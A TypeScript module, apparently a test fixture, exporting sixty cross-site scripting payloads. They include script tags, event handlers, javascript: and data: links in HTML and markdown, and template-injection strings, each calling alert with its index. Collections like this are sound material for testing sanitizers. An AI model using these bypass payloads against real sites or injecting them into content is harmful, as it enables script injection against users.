const alarm = (at: number): string => `alert(${at})`;
const bare = (at: number): readonly string[] => [
  `<script>${alarm(at)}</script>`,
  `<ScRiPt>${alarm(at)}</sCrIpT>`,
  `<script\n>${alarm(at)}</script\n>`,
  `"><script>${alarm(at)}</script>`,
  `'><script>${alarm(at)}</script>`,
  `</title><script>${alarm(at)}</script>`,
  `</textarea><script>${alarm(at)}</script>`,
  `</script><script>${alarm(at)}</script>`,
  `--><script>${alarm(at)}</script>`,
  `]]><script>${alarm(at)}</script>`,
  `<script src="data:text/javascript,${alarm(at)}"></script>`,
  `<script type="module">${alarm(at)}</script>`,
];
const onEvents = (at: number): readonly string[] => [
  `<img src=x onerror=${alarm(at)}>`,
  `<img src=x onerror="${alarm(at)}"`,
  `<IMG SRC=x OnErRoR=${alarm(at)}>`,
  `<img/src=x/onerror=${alarm(at)}>`,
  `<img src=x\tonerror\n=\r${alarm(at)}>`,
  `"><img src=x onerror=${alarm(at)}>`,
  `' onmouseover=${alarm(at)} x='`,
  `" autofocus onfocus=${alarm(at)} x="`,
  `<svg onload=${alarm(at)}>`,
  `<svg/onload=${alarm(at)}>`,
  `<svg><script>${alarm(at)}</script></svg>`,
  `<svg><animate onbegin=${alarm(at)} attributeName=x dur=1s></svg>`,
  `<svg><a href="javascript:${alarm(at)}"><text y=9>a</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${alarm(at)}></style></mglyph></table></mtext></math>`,
  `<body onload=${alarm(at)}>`,
  `<details open ontoggle=${alarm(at)}><summary>a</summary></details>`,
  `<input autofocus onfocus=${alarm(at)}>`,
  `<select autofocus onfocus=${alarm(at)}></select>`,
  `<textarea autofocus onfocus=${alarm(at)}></textarea>`,
  `<video src=x onerror=${alarm(at)}></video>`,
  `<audio src=x onerror=${alarm(at)}></audio>`,
  `<video><source onerror=${alarm(at)}></video>`,
  `<object data=x onerror=${alarm(at)}></object>`,
  `<embed src="javascript:${alarm(at)}">`,
  `<marquee onstart=${alarm(at)}>a</marquee>`,
  `<div style="animation:a" onanimationstart=${alarm(at)}>a</div>`,
  `<noscript><p title="</noscript><img src=x onerror=${alarm(at)}>">`,
  `<template><img src=x onerror=${alarm(at)}></template>`,
];
const addresses = (at: number): readonly string[] => [
  `<a href="javascript:${alarm(at)}">a</a>`,
  `<a href=" &#14; javascript:${alarm(at)}">a</a>`,
  `<iframe src="javascript:parent.${alarm(at)}"></iframe>`,
  `<iframe srcdoc="<script>parent.${alarm(at)}</script>"></iframe>`,
  `<form action="javascript:${alarm(at)}"><button>a</button></form>`,
  `<meta http-equiv=refresh content="0;url=javascript:${alarm(at)}">`,
  `<base href="javascript:/">`,
  `<link rel=stylesheet href="javascript:${alarm(at)}">`,
  `[a](javascript:${alarm(at)})`,
  `[a](JaVaScRiPt:${alarm(at)})`,
  `[a](&#106;avascript:${alarm(at)})`,
  `[a](data:text/html,<script>${alarm(at)}</script>)`,
  `[a](vbscript:${alarm(at)})`,
  `<javascript:${alarm(at)}>`,
  `[a](https://example.org "x" onclick=${alarm(at)})`,
  `![a](x" onerror="${alarm(at)})`,
];
const templates = (at: number): readonly string[] => [
  `{{constructor.constructor('${alarm(at)}')()}}`,
  `\${${alarm(at)}}`,
  `<%= ${alarm(at)} %>`,
  `{"__html":"<img src=x onerror=${alarm(at)}>"}`,
];

/** Sixty texts that would run where a page took them for markup (TH13); each calls `alert` with its place in the list. */
export const PAYLOADS: readonly string[] = [bare, onEvents, addresses, templates]
  .flatMap((kind) => kind(0).map((_text, at) => (place: number) => kind(place)[at] ?? ''))
  .map((made, place) => made(place));
